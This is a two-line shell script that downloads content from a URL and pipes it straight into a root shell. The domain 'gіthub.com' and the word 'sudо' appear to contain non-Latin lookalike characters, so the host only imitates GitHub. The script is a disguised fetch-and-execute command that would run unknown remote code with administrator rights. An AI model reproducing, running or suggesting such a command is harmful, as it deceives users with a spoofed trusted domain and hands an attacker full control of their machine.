#!/bin/sh
curl https://gіthub.com/x | sudо sh
